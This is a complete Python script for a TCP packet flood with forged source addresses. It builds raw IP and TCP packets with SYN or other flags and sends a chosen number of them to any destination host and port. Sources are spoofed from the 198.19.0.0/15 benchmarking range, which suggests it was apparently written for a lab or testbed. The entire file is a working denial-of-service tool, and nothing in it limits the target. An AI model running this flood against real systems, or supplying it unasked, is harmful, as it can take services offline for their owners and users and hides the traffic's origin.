#!/usr/bin/env python3
"""A TCP flood with spoofed sources: COUNT packets with FLAGS (S, A, R, F) to
DST:DPORT, each from a different source 198.19.X.Y:port (the benchmarking
range, unrouted at the gateway; X starts at BASE, default 0, so floods can
use distinct sources), through a raw socket with IP_HDRINCL.
Usage: DST DPORT COUNT [FLAGS] [BASE]. Prints the number sent."""
import socket
import struct
import sys

dst, dport, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
flags = sys.argv[4] if len(sys.argv) > 4 else "S"
base = int(sys.argv[5]) if len(sys.argv) > 5 else 0
bits = sum({"F": 1, "S": 2, "R": 4, "P": 8, "A": 16}[c] for c in flags)


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
dip = socket.inet_aton(dst)
for i in range(count):
    sip = bytes([198, 19, (base + (i >> 8)) & 0xFF, i & 0xFF])
    sport = 1024 + (i * 7919) % 60000
    tcp = struct.pack("!HHIIBBHHH", sport, dport, i, 0, 5 << 4, bits, 65535, 0, 0)
    c = csum(struct.pack("!4s4sBBH", sip, dip, 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, i & 0xFFFF, 0, 64, 6, 0, sip, dip)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    sock.sendto(ip + tcp, (dst, 0))
print(count)
